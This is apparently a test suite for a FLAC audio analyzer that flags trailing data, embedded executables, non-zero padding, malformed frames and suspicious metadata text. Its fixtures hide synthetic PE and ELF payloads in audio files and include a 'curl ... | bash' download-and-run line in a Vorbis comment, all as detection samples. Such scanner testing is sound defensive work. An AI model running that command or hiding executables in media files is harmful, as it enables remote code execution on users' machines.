import { flacAnalyzer } from '../../src/analyzers/flac.js';
import { parseFlac } from '../../src/formats/flac.js';
import { runAnalyzer, ruleIds, scoreOf } from '../helpers/analyze.js';
import { cat, elfExe, flac, flacFrame, id3v1, id3v2, noise, peExe, pictureBody, png, jpeg, textFrame, utf8, vorbisCommentBody } from '../helpers/audio.js';

const run = (d: Uint8Array, name = 'track.flac') => runAnalyzer(flacAnalyzer, name, d);
const b64 = (b: Uint8Array | string) => Buffer.from(typeof b === 'string' ? Buffer.from(b) : b).toString('base64');
const comments = (list: string[]) => ({ type: 4, data: vorbisCommentBody('reference libFLAC 1.4.2 20221022', list) });

describe('FLAC parser', () => {
  test('STREAMINFO, blocks, and a CRC-verified frame walk that ends exactly at the last frame', () => {
    const d = flac({ blocks: [comments(['TITLE=x']), { type: 1, data: new Uint8Array(100) }], frames: 12, noiseFrames: true });
    const p = parseFlac(d);
    expect(p.streamInfo).toMatchObject({ sampleRate: 44100, channels: 1, bitsPerSample: 16, minBlockSize: 192 });
    expect(p.blocks.map((b) => b.name)).toEqual(['STREAMINFO', 'VORBIS_COMMENT', 'PADDING']);
    expect(p.frameCount).toBe(12);
    expect(p.audioEnd).toBe(d.length);
    expect(p.lastFrameVerified).toBe(true);
    expect(p.trailing).toBeNull();
  });

  test('trailing bytes after the last frame are located; an ID3v1 tag is peeled', () => {
    const d = flac({ frames: 5, trailing: cat(noise(3000), id3v1('t')) });
    const p = parseFlac(d);
    expect(p.trailing?.length).toBe(3000);
    expect(p.endTags.map((t) => t.kind)).toEqual(['id3v1']);
  });

  test('block lengths that lie and truncation never throw', () => {
    const d = flac({ blocks: [{ type: 4, data: vorbisCommentBody('v', ['A=b']), declared: 0xffffff }] });
    expect(parseFlac(d).anomalies.map((a) => a.code)).toContain('block-past-end');
    for (let n = 0; n < d.length; n += 7) expect(() => parseFlac(d.subarray(0, n))).not.toThrow();
  });
});

describe('flac analyzer: ordinary files stay quiet', () => {
  test('comments with title/artist/ENCODER, PICTURE with a PNG, SEEKTABLE, zero padding, ID3v1 at the end', async () => {
    const d = flac({
      blocks: [
        { type: 3, data: new Uint8Array(36) },
        comments(['TITLE=Tone', 'ARTIST=Someone', 'ENCODER=Lavf58', 'COMMENT=from https://example.org/x', 'ACOUSTID_FINGERPRINT=' + b64(noise(600)).replace(/\+/g, '-').replace(/\//g, '_')]),
        { type: 6, data: pictureBody('image/png', png()) },
        { type: 6, data: pictureBody('image/jpeg', jpeg(4000)) },
        { type: 2, data: cat('riff', noise(40)) },
        { type: 1, data: new Uint8Array(8192) },
      ],
      frames: 10,
      noiseFrames: true,
      trailing: id3v1('Tone', 'Someone'),
    });
    const r = await run(d);
    expect(r.findings).toEqual([]);
    expect(r.incomplete).toEqual([]);
  });

  test('an ID3v2 tag in front of fLaC is handled by the flac analyzer', async () => {
    const d = cat(id3v2([textFrame('TIT2', 'x')]), flac());
    expect(flacAnalyzer.applies({ path: 'a.flac', ext: 'flac', data: d, type: { kind: 'audio', format: 'mp3' }, depth: 0 })).toBe(true);
    expect((await run(d)).findings).toEqual([]);
  });
});

describe('audio.flac.trailing-data', () => {
  test('kilobytes after the last frame are reported with their size', async () => {
    const r = await run(flac({ trailing: noise(100000) }));
    expect(ruleIds(r)).toEqual(['audio.flac.trailing-data']);
    expect(scoreOf(r, 'audio.flac.trailing-data')).toBe(3);
    expect(r.findings[0].evidence?.bytes).toBe(100000);
  });

  test('a frame-sized opaque tail is weak; recognisable text is full strength', async () => {
    expect(scoreOf(await run(flac({ trailing: noise(200) })), 'audio.flac.trailing-data')).toBeLessThan(2);
    expect(scoreOf(await run(flac({ trailing: utf8('this text does not belong after the audio frames') })), 'audio.flac.trailing-data')).toBe(3);
  });
});

describe('audio.flac.hidden-payload', () => {
  test('an executable after the stream and one in an APPLICATION block', async () => {
    const r = await run(flac({ trailing: peExe(4000) }));
    expect(scoreOf(r, 'audio.flac.hidden-payload')).toBe(9);
    const a = await run(flac({ blocks: [{ type: 2, data: cat('abcd', elfExe(300)) }] }));
    expect(ruleIds(a)).toEqual(['audio.flac.hidden-payload', 'audio.flac.odd-block']);
  });

  test('a Vorbis comment holding base64 of a PE', async () => {
    const r = await run(flac({ blocks: [comments(['TITLE=x', 'DATA=' + b64(peExe(600))])] }));
    expect(ruleIds(r)).toContain('audio.flac.hidden-payload');
    expect(ruleIds(r)).toContain('audio.flac.suspicious-text');
  });
});

describe('audio.flac.padding-not-zero', () => {
  test('PADDING holding data', async () => {
    const r = await run(flac({ blocks: [{ type: 1, data: noise(2000) }] }));
    expect(ruleIds(r)).toEqual(['audio.flac.padding-not-zero']);
    expect(scoreOf(r, 'audio.flac.padding-not-zero')).toBe(2.5);
  });

  test('PADDING of zeros is fine', async () => {
    expect((await run(flac({ blocks: [{ type: 1, data: new Uint8Array(2000) }] }))).findings).toEqual([]);
  });
});

describe('audio.flac.odd-block', () => {
  test('unregistered APPLICATION carrying text; CUESHEET reserved bytes not zero; reserved block type', async () => {
    expect(ruleIds(await run(flac({ blocks: [{ type: 2, data: cat('zzzz', utf8('hello this is a long message stored inside an application block')) }] })))).toEqual(['audio.flac.odd-block']);
    const cue = new Uint8Array(396);
    cue.fill(0x41, 137, 395);
    expect(ruleIds(await run(flac({ blocks: [{ type: 5, data: cue }] })))).toContain('audio.flac.odd-block');
    expect(ruleIds(await run(flac({ blocks: [{ type: 9, data: noise(500) }] })))).toContain('audio.flac.odd-block');
  });

  test('a small registered APPLICATION block and a clean CUESHEET are fine', async () => {
    expect((await run(flac({ blocks: [{ type: 2, data: cat('riff', noise(300)) }, { type: 5, data: new Uint8Array(396) }] }))).findings).toEqual([]);
  });
});

describe('audio.flac.malformed', () => {
  test('a block length that runs past the end; no frames after the metadata', async () => {
    expect(ruleIds(await run(flac({ blocks: [{ type: 4, data: vorbisCommentBody('v', []), declared: 0xfffff }] })))).toContain('audio.flac.malformed');
    expect(ruleIds(await run(flac({ frames: 0, trailing: noise(100) })))).toContain('audio.flac.malformed');
  });

  test('a frame whose CRC-16 does not match (bytes spliced into a frame)', async () => {
    const frames = cat(flacFrame(0), flacFrame(1), flacFrame(2));
    const spliced = cat(frames.subarray(0, 11 + 8), utf8('XYZ'), frames.subarray(11 + 8));
    const d = cat(flac({ frames: 0 }), spliced);
    const r = await run(d);
    expect(ruleIds(r)).toContain('audio.flac.malformed');
    expect(ruleIds(await run(flac()))).toEqual([]);
  });
});

describe('audio.flac.bad-picture', () => {
  test('a PICTURE block whose data is not an image', async () => {
    const r = await run(flac({ blocks: [{ type: 6, data: pictureBody('image/jpeg', noise(5000)) }] }));
    expect(ruleIds(r)).toEqual(['audio.flac.bad-picture']);
  });

  test('METADATA_BLOCK_PICTURE in a Vorbis comment that is not an image; a real one is fine', async () => {
    const bad = await run(flac({ blocks: [comments(['METADATA_BLOCK_PICTURE=' + b64(pictureBody('image/png', utf8('plain words, not an image at all')))])] }));
    expect(ruleIds(bad)).toContain('audio.flac.bad-picture');
    const ok = await run(flac({ blocks: [comments(['METADATA_BLOCK_PICTURE=' + b64(pictureBody('image/png', png()))])] }));
    expect(ok.findings).toEqual([]);
  });
});

describe('audio.flac.suspicious-text', () => {
  test('a comment with a curl | sh line', async () => {
    const r = await run(flac({ blocks: [comments(['DESCRIPTION=run: curl -fsSL http://example.com/i.sh | bash'])] }));
    expect(ruleIds(r)).toContain('audio.flac.suspicious-text');
    expect(scoreOf(r, 'audio.flac.suspicious-text')).toBe(3);
  });

  test('a long base64 blob of random bytes in an ordinary key is noted but stays low', async () => {
    const r = await run(flac({ blocks: [comments(['NOTES=' + b64(noise(3000))])] }));
    expect(scoreOf(r, 'audio.flac.suspicious-text')).toBeGreaterThan(0);
    expect(scoreOf(r, 'audio.flac.suspicious-text')).toBeLessThan(3);
  });
});
